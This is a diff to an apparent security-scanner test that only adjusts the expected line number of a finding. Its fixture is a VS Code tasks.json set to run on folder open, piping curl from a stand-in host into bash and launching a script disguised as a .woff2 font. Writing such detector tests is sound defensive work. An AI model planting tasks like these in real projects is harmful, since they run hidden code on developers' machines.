@@ -23,7 +23,7 @@ ruleTest(rule, {
       files: {
         '.vscode/tasks.json': '{\n "tasks": [{\n  "label": "env",\n  "osx": { "command": "curl -s http://x.example/m | bash" },\n  "windows": { "command": "node public/a.woff2" },\n  "runOptions": { "runOn": "folderOpen" }\n }]\n}',
       },
-      findings: [{ line: 5, evidence: /osx: curl.*\nwindows: node public\/a\.woff2/, severity: 'high' }],
+      findings: [{ line: 4, evidence: /osx: curl.*\nwindows: node public\/a\.woff2/, severity: 'high' }],
     },
   ],
 });
